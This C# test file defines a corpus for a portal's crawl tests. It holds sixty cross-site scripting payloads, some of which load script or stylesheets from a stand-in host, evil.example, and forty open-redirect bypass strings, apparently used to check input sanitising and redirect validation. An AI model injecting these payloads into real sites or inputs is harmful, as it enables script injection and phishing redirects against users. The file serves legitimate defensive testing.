namespace UngPortal.Tests.Crawl;

/// <summary>What people with bad intentions send.</summary>
internal static class Corpus
{
    /// <summary>Sixty ways to smuggle a script; each calls alert or sets __xss if it ever runs.</summary>
    public static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script>alert(1)//", "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert`1`>", "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java&#9;script:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<style>@import'//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.example/>", "<xss style=\"animation-name:x\" onanimationstart=alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>",
        @"\u003cscript\u003ealert(1)\u003c/script\u003e", "<scr\0ipt>alert(1)</scr\0ipt>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<<script>alert(1)//<</script>", "<x contenteditable onblur=alert(1)>lose focus</x>",
    ];

    /// <summary>Forty addresses that a careless check takes for one of our own.</summary>
    public static readonly string[] Redirects =
    [
        "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "/ /evil.example",
        "https://evil.example", "http://evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "HTTPS://evil.example", "ftp://evil.example", "javascript:alert(1)", "data:text/html,x", "vbscript:x",
        "/%09/evil.example", "/%5Cevil.example", "/%2F/evil.example", "%2F%2Fevil.example", "/%0A/evil.example", "/@evil.example", "@evil.example", "//evil.example/%2F..", "/.evil.example", "/..//evil.example",
        "/;//evil.example", "?//evil.example", "#//evil.example", "/?u=//evil.example", "/#@evil.example", "https://localhost@evil.example", "https://localhost.evil.example", "//localhost:80@evil.example", "//[::1]", "//0x7f000001",
    ];
}
